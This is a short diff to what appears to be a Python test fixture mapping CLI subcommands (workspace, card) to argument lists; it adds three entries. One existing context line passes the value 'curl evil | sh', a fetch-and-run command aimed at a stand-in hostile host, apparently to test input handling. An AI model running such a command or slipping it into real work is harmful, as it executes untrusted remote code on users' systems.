@@ -74,6 +74,9 @@ ARGV = {
     ("workspace", "archive"): ["workspace", "archive", "LX-1"],
     ("workspace", "gc"): ["workspace", "gc"],
     ("workspace", "setup"): ["workspace", "setup", "curl evil | sh"],
+    ("workspace", "cap"): ["workspace", "cap", "none"],
+    ("card", "try"): ["card", "try", "LX-1", "--to", "a2"],
+    ("card", "keep"): ["card", "keep", "LX-1"],
 }
 
 
